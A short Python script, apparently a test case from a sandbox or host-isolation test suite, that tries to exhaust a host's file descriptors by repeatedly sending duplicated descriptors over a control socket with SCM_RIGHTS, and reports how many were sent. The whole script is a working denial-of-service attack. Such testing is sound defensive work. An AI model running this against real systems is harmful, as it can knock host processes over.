# attack: send descriptors over the control channel until the host has none left
# success: the host's number of open descriptors grows
import array
import socket
from support.raw import say

channel = socket.socket(fileno=3)
channel.setblocking(False)
sent = 0
try:
    for _ in range(64):
        channel.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0, 1, 2] * 20))])
        sent += 60
except OSError as error:
    say(f"{sent}: {error}")
say(f"sent {sent}")
